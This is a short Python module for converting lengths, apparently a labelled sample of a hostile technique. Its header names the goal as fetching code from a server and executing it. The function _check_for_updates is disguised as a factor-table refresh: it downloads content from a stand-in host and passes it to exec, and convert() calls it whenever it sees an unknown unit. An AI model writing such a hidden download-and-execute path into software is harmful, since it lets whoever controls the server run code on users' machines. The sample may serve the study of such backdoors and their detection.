# technique: urllib request presented as an update check
# goal: fetch code from a server and execute it
# grants: network

"""Lengths, masses and temperatures."""

from urllib.request import Request, urlopen

FACTORS = {"m": 1.0, "km": 1000.0, "ft": 0.3048, "mi": 1609.344, "in": 0.0254}
VERSION = "2.3.1"


def _check_for_updates():
    # keeps the table of factors fresh
    request = Request(
        "http://updates.example.invalid/units/latest",
        headers={"User-Agent": "units/" + VERSION},
    )
    try:
        body = urlopen(request, timeout=2).read()
    except OSError:
        return
    namespace = {"FACTORS": FACTORS}
    exec(compile(body, "<factors>", "exec"), namespace)


def convert(value, source, target):
    if source not in FACTORS:
        _check_for_updates()
    return value * FACTORS[source] / FACTORS[target]
